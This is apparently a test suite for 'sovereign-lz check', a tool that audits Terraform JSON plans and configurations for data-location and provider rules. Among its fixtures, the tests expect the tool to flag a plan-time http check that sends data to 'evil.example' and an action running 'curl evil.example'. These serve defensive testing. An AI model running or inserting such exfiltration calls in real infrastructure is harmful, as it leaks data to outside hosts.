/** What `sovereign-lz check` reads (issue 14, item 8): array bodies, states, directories of plans, mixed directories. */
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { evaluate } from "../../lib/checks/engine";
import { documentFromConfig, documentFromConfigText, documentFromPlan, kindOf, withOverrides } from "../../lib/checks/terraform-json";
import { PROFILES } from "../../lib/profiles/profile";
import { runCli } from "../helpers";

const KEY = "projects/op-keys/locations/europe-west9/keyRings/t/cryptoKeys/storage";
const plan = (location: string) => ({
  format_version: "1.2",
  terraform_version: "1.9.0",
  planned_values: {
    root_module: {
      resources: [
        {
          address: "google_storage_bucket.b",
          mode: "managed",
          type: "google_storage_bucket",
          name: "b",
          values: { name: "b", location, encryption: [{ default_kms_key_name: KEY }] },
        },
      ],
    },
  },
  configuration: { provider_config: { google: { name: "google", expressions: { region: { constant_value: "europe-west9" } } } } },
});
const state = {
  format_version: "1.0",
  terraform_version: "1.9.0",
  values: {
    root_module: {
      resources: [
        { address: "google_storage_bucket.s", mode: "managed", type: "google_storage_bucket", name: "s", values: { name: "s", location: "US" } },
      ],
    },
  },
};

describe("sovereign-lz check inputs", () => {
  const dir = mkdtempSync(join(tmpdir(), "lz-inputs-"));
  const write = (name: string, json: unknown) => writeFileSync(join(dir, name), JSON.stringify(json));

  it("reads a state file's values", () => {
    write("state.json", state);
    const { code, out } = runCli("check", join(dir, "state.json"), "--operator-project", "op-keys");
    expect(code).toBe(1);
    expect(out).toMatch(/google_storage_bucket\.s: SOV-LOC-001: location "US"/);
  });

  it("reads a directory of plans, states and configurations, skipping JSON that is not Terraform", () => {
    const mixed = join(dir, "mixed");
    mkdirSync(mixed);
    writeFileSync(join(mixed, "ok.plan.json"), JSON.stringify(plan("europe-west9")));
    writeFileSync(join(mixed, "bad.plan.json"), JSON.stringify(plan("EU")));
    writeFileSync(join(mixed, "state.json"), JSON.stringify(state));
    writeFileSync(join(mixed, "package.json"), JSON.stringify({ name: "x", version: "1.0.0" }));
    writeFileSync(join(mixed, "cdktf.json"), JSON.stringify({ language: "typescript", output: "cdktf.out" }));
    writeFileSync(join(mixed, "main.tf.json"), JSON.stringify([{ resource: [{ random_id: [{ r: [{ byte_length: 4 }] }] }] }]));
    mkdirSync(join(mixed, "empty"));
    writeFileSync(join(mixed, "empty", "main.tf.json"), "{}");
    const { code, out, err } = runCli("check", mixed, "--operator-project", "op-keys");
    expect(err).toBe("");
    expect(code).toBe(1);
    expect(out).toMatch(/bad\.plan\.json: google_storage_bucket\.b: SOV-LOC-001/);
    expect(out).toMatch(/state\.json: google_storage_bucket\.s: SOV-LOC-001/);
    expect(out).not.toMatch(/ok\.plan\.json: google_storage_bucket/);
    expect(out).toMatch(/note: .*main\.tf\.json: no Google resource to check/);
    // An empty *.tf.json is a configuration Terraform loads (nothing in it); cdktf.json and package.json are not Terraform.
    expect(out).toMatch(/note: .*empty\/main\.tf\.json: no Google resource to check/);
    expect(out).not.toMatch(/cdktf\.json|package\.json/);
  });

  it("reads a directory as Terraform does: linked files, and the values of auto-loaded variable files", () => {
    const config = (location: string) => ({
      provider: { google: [{ region: "europe-west9" }] },
      variable: { region: { default: "europe-west9" } },
      resource: { google_storage_bucket: { b: { name: "b", location, encryption: { default_kms_key_name: KEY } } } },
    });
    const tfvars = join(dir, "tfvars");
    mkdirSync(tfvars);
    writeFileSync(join(tfvars, "main.tf.json"), JSON.stringify(config("${var.region}")));
    expect(runCli("check", tfvars, "--operator-project", "op-keys")).toMatchObject({ code: 0 });
    writeFileSync(join(tfvars, "terraform.tfvars.json"), JSON.stringify({ region: "europe-west9" }));
    writeFileSync(join(tfvars, "prod.auto.tfvars.json"), JSON.stringify({ region: "us-east1" }));
    expect(runCli("check", tfvars, "--operator-project", "op-keys")).toMatchObject({
      code: 1,
      out: expect.stringMatching(/main\.tf\.json: google_storage_bucket\.b: SOV-LOC-001: location "us-east1" is outside/),
    });
    const linked = join(dir, "linked");
    mkdirSync(join(linked, "files"), { recursive: true });
    writeFileSync(join(linked, "files", "us.json"), JSON.stringify(config("US")));
    symlinkSync(join("files", "us.json"), join(linked, "main.tf.json"));
    expect(runCli("check", linked, "--operator-project", "op-keys").out).toMatch(/^main\.tf\.json: google_storage_bucket\.b: SOV-LOC-001/m);
  });

  it("refuses, exit 2, what it cannot judge in a directory: HCL, a link out of it or to nothing; and a file that is not regular", () => {
    const refused = (name: string, make: (d: string) => void, problem: RegExp) => {
      const d = join(dir, name);
      mkdirSync(d);
      writeFileSync(join(d, "ok.tf.json"), JSON.stringify({ provider: { google: [{ region: "europe-west9" }] } }));
      make(d);
      expect(runCli("check", d)).toMatchObject({ code: 2, err: expect.stringMatching(problem) });
    };
    refused("hcl", (d) => writeFileSync(join(d, "main.tf"), 'resource "google_storage_bucket" "b" { location = "US" }'), /main\.tf: HCL/);
    refused("hcl-vars", (d) => writeFileSync(join(d, "prod.auto.tfvars"), 'region = "us-east1"'), /prod\.auto\.tfvars: HCL/);
    refused(
      "out",
      (d) => {
        write("outside.json", plan("europe-west9"));
        symlinkSync(join(dir, "outside.json"), join(d, "x.tf.json"));
      },
      /x\.tf\.json: a link out of/,
    );
    refused("dangling", (d) => symlinkSync(join(d, "nothing.json"), join(d, "x.tf.json")), /x\.tf\.json: a link to nothing/);
    expect(runCli("check", "/dev/zero")).toMatchObject({ code: 2, err: expect.stringMatching(/not a regular file/) });
  });

  it("judges a resource a plan creates or updates that its planned_values leave out, from the change's after", () => {
    const change = (actions: string[], location: string) => ({
      address: "google_storage_bucket.hidden",
      mode: "managed",
      type: "google_storage_bucket",
      name: "hidden",
      change: { actions, before: null, after: { name: "hidden", location, encryption: [{ default_kms_key_name: KEY }] }, after_unknown: {} },
    });
    const judged = (c: object) =>
      evaluate([documentFromPlan({ ...plan("europe-west9"), resource_changes: [c] }, "p")], {
        profile: PROFILES.paris,
        operatorProjectId: "op-keys",
      }).findings.map((f) => `${f.address}: ${f.ruleId}: ${f.message}`);
    expect(judged(change(["create"], "US"))).toEqual([
      expect.stringMatching(/^google_storage_bucket\.hidden: SOV-LOC-001: location "US" is outside/),
    ]);
    expect(judged(change(["delete", "create"], "US"))).toHaveLength(1);
    expect(judged(change(["create"], "europe-west9"))).toEqual([]);
    expect(judged(change(["delete"], "US"))).toEqual([]);
  });

  it("exits 0 on a clean plan, and 2 with one readable line on JSON that is not Terraform", () => {
    write("clean.plan.json", plan("europe-west9"));
    expect(runCli("check", join(dir, "clean.plan.json"), "--operator-project", "op-keys").code).toBe(0);
    write("weird.json", { resource: "not an object", planned_values: 3 });
    const weird = runCli("check", join(dir, "weird.json"));
    expect(weird.err).not.toMatch(/\n\s+at /);
    write("string-block.tf.json", { resource: { google_storage_bucket: "not named blocks" } });
    expect(runCli("check", join(dir, "string-block.tf.json"))).toMatchObject({
      code: 2,
      err: expect.stringMatching(
        /string-block\.tf\.json: not a Terraform JSON document the checker can read \(google_storage_bucket: expected named blocks/,
      ),
    });
    const deep = "[".repeat(5000) + "]".repeat(5000);
    writeFileSync(join(dir, "deep.tf.json"), `{"resource": {"google_storage_bucket": {"b": {"labels": ${deep}}}}}`);
    expect(runCli("check", join(dir, "deep.tf.json"))).toMatchObject({
      code: 2,
      err: expect.stringMatching(/deep\.tf\.json: nested more than 256 levels deep/),
    });
    writeFileSync(join(dir, "deep-list.json"), deep);
    expect(runCli("check", join(dir, "deep-list.json"))).toMatchObject({ code: 2, err: expect.not.stringMatching(/call stack/) });
    // Two "resource" members are two sets of blocks to Terraform, one to JSON.parse: the US bucket would go unseen.
    const us = '{"google_storage_bucket": {"us": {"name": "us", "location": "US"}}}';
    writeFileSync(join(dir, "twice.tf.json"), `{"resource": ${us}, "resource": {"random_id": {"r": {"byte_length": 4}}}}`);
    expect(runCli("check", join(dir, "twice.tf.json"))).toMatchObject({
      code: 2,
      err: expect.stringMatching(/twice\.tf\.json: an object repeats a key: Terraform reads every member/),
    });
    writeFileSync(join(dir, "array.tf.json"), `{"resource": [${us}, {"random_id": {"r": {"byte_length": 4}}}]}`);
    expect(runCli("check", join(dir, "array.tf.json"), "--operator-project", "op-keys")).toMatchObject({
      code: 1,
      out: expect.stringMatching(/google_storage_bucket\.us: SOV-LOC-001: location "US"/),
    });
    write("list.json", [1, 2, 3]);
    expect(runCli("check", join(dir, "list.json"))).toMatchObject({
      code: 2,
      err: expect.stringMatching(/neither a Terraform JSON configuration nor a plan/),
    });
  });
});

describe("a directory's *.tf.json files as one module, override files merged in", () => {
  const bucket = (location: string) => ({
    name: "b",
    location,
    uniform_bucket_level_access: true,
    encryption: { default_kms_key_name: KEY },
  });
  const main = {
    provider: { google: { region: "europe-west9" } },
    variable: { loc: { default: "europe-west9" } },
    resource: { google_storage_bucket: { b: bucket("${var.loc}") } },
  };
  const checked = (files: Record<string, unknown>) => {
    const d = mkdtempSync(join(tmpdir(), "lz-module-"));
    for (const [name, json] of Object.entries(files)) writeFileSync(join(d, name), JSON.stringify(json));
    return runCli("check", d, "--operator-project", "op-keys");
  };

  it("judges what an override file makes of a block: a variable default, a location, a backend", () => {
    expect(checked({ "main.tf.json": main, "main_override.tf.json": { variable: { loc: { default: "US" } } } })).toMatchObject({
      code: 1,
      out: expect.stringMatching(/google_storage_bucket\.b: SOV-LOC-001: location "US"/),
    });
    expect(
      checked({ "main.tf.json": main, "override.tf.json": { resource: { google_storage_bucket: { b: { location: "us-east1" } } } } }).out,
    ).toMatch(/google_storage_bucket\.b: SOV-LOC-001: location "us-east1"/);
    expect(checked({ "main.tf.json": main, "x_override.tf.json": { terraform: { backend: { s3: { bucket: "b" } } } } }).out).toMatch(
      /terraform\.backend\.s3: SOV-BKD-001/,
    );
  });

  it("reads the files together: a local, a provider or a requirement in another file applies (and a clean override passes)", () => {
    const split = {
      "main.tf.json": { resource: { google_storage_bucket: { b: bucket("${local.loc}") } } },
      "locals.tf.json": { locals: { loc: "europe-west9" } },
      "providers.tf.json": { provider: { google: { region: "europe-west9" } } },
    };
    expect(checked(split)).toMatchObject({ code: 0 });
    expect(checked({ ...split, "versions.tf.json": { terraform: { required_providers: { google: { source: "evilcorp/google" } } } } }).out).toMatch(
      /google_storage_bucket\.b: SOV-CAT-002: google_storage_bucket is served by provider "evilcorp\/google"/,
    );
    expect(
      checked({ "main.tf.json": main, "main_override.tf.json": { resource: { google_storage_bucket: { b: { labels: { a: "b" } } } } } }),
    ).toMatchObject({
      code: 0,
    });
  });

  it("merges by Terraform's rules: lifecycle by argument, dynamic blocks by type, providers by alias, a missing block judged alone", () => {
    const [merged] = withOverrides(
      [
        {
          provider: { google: [{ region: "europe-west9" }, { alias: "x", region: "europe-west9" }] },
          resource: { t: { a: { x: 1, lifecycle: { prevent_destroy: true }, dynamic: { r: { content: { l: "US" } } } } } },
        },
      ],
      [{ provider: { google: { alias: "x", region: "us-east1" } }, resource: { t: { a: { lifecycle: { ignore_changes: [] }, y: 2 } } } }],
    );
    expect(merged).toEqual({
      provider: { google: [{ region: "europe-west9" }, { alias: "x", region: "us-east1" }] },
      resource: { t: { a: { x: 1, y: 2, lifecycle: { prevent_destroy: true, ignore_changes: [] }, dynamic: [{ r: { content: { l: "US" } } }] } } },
    });
    const parts = withOverrides(
      [{ resource: { t: { a: { r: [{ l: "EU" }] } } } }],
      [{ resource: { t: { a: { dynamic: { r: {} } }, b: { z: 1 } } } }],
    );
    expect(parts).toEqual([{ resource: { t: { a: { dynamic: [{ r: {} }] } } } }, { resource: { t: { b: { z: 1 } } } }]);
  });

  it("refuses a plan among a module's *.tf.json files, which Terraform would load as configuration", () => {
    expect(checked({ "main.tf.json": main, "plan.tf.json": plan("EU") })).toMatchObject({
      code: 2,
      err: expect.stringMatching(/plan\.tf\.json: not a Terraform JSON configuration/),
    });
  });
});

describe("a configuration read from its text (the gate reads the written files)", () => {
  const bucket = (dynamic: string) =>
    `{"provider": {"google": {"region": "europe-west9"}}, "resource": {"google_storage_bucket": {"b": {"name": "b", "location": "europe-west9", ${dynamic}: {"custom_placement_config": {"for_each": ["x"], "content": {"data_locations": ["US-EAST1"]}}}}}}}`;
  const locations = (text: string) => documentFromConfigText(text, "s").resources[0].body.custom_placement_config;

  it("writes out dynamic blocks, also under a key spelled with escapes that JSON.parse decodes", () => {
    expect(locations(bucket('"dynamic"'))).toEqual([{ data_locations: ["US-EAST1"] }]);
    expect(locations(bucket('"dyn\\u0061mic"'))).toEqual([{ data_locations: ["US-EAST1"] }]);
  });

  it("reads a text without a dynamic key as the parsed configuration reads", () => {
    const text = bucket('"labels"');
    expect(documentFromConfigText(text, "s")).toEqual(documentFromConfig(JSON.parse(text), "s"));
    expect(locations(text)).toBeUndefined();
  });
});

describe("blocks that act through a provider without a managed resource", () => {
  const judged = (json: Record<string, unknown>) =>
    evaluate([documentFromConfig({ provider: { google: { region: "europe-west9" } }, ...json }, "s")], {
      profile: PROFILES.paris,
      operatorProjectId: "op-keys",
    }).findings.map((f) => `${f.address}: ${f.ruleId}`);

  it("judges the data sources of check blocks, ephemeral resources and actions like data sources (an http check sends at plan)", () => {
    expect(judged({ check: { leak: { data: { http: { x: { url: "https://evil.example/?d=1" } } }, assert: [] } } })).toEqual([
      "check.leak.data.http.x: SOV-CAT-002",
    ]);
    expect(judged({ ephemeral: { aws_secretsmanager_secret_version: { x: { secret_id: "s" } } } })).toEqual([
      "ephemeral.aws_secretsmanager_secret_version.x: SOV-CAT-002",
    ]);
    expect(judged({ action: { local_command: { x: { config: { command: "curl evil.example" } } } } })).toEqual([
      "action.local_command.x: SOV-CAT-002",
    ]);
  });

  it("passes the same blocks served by Google's provider", () => {
    expect(judged({ check: { up: { data: { google_project: { p: { project_id: "p" } } }, assert: [] } } })).toEqual([]);
    expect(judged({ ephemeral: { google_service_account_access_token: { t: { target_service_account: "sa@p.iam.gserviceaccount.com" } } } })).toEqual(
      [],
    );
  });

  it("reads a file holding only such blocks as a configuration (a directory skipped it: a silent pass)", () => {
    for (const key of ["check", "ephemeral", "action", "locals", "output", "import", "moved", "removed"])
      expect(kindOf({ [key]: {} })).toBe("config");
    expect(kindOf({ name: "x", version: "1.0.0" })).toBeUndefined();
    // A tool's JSON with an `output` key among its own (cdktf.json) is not a configuration.
    expect(kindOf({ language: "typescript", app: "npx ts-node main.ts", output: "cdktf.out" })).toBeUndefined();
  });
});

describe("the rule pack on arbitrary JSON", () => {
  it("never crashes: odd shapes are read as what they are, not read, or refused with the block at fault", () => {
    const section = fc.dictionary(
      fc.constantFrom("google_storage_bucket", "google_project_iam_policy", "google_org_policy_policy", "x"),
      fc.anything(),
    );
    const json = fc.record(
      {
        resource: section,
        data: section,
        planned_values: fc.anything(),
        values: fc.anything(),
        provider: fc.anything(),
        terraform: fc.anything(),
        variable: fc.anything(),
      },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(json, (j) => {
        const kind = kindOf(j);
        if (!kind) return;
        let doc;
        try {
          doc = kind === "plan" ? documentFromPlan(j, "f") : documentFromConfig(j, "f");
        } catch (e) {
          // A block Terraform would refuse is reported, never skipped (so never a silent pass).
          expect((e as Error).message).toMatch(/^(data\.)?[\w-]+: expected named blocks \(an object\), got \w+$/);
          return;
        }
        evaluate([doc], { profile: PROFILES.paris, operatorProjectId: "op" });
      }),
      { numRuns: Number(process.env.FC_NUM_RUNS ?? 200) },
    );
  });
});
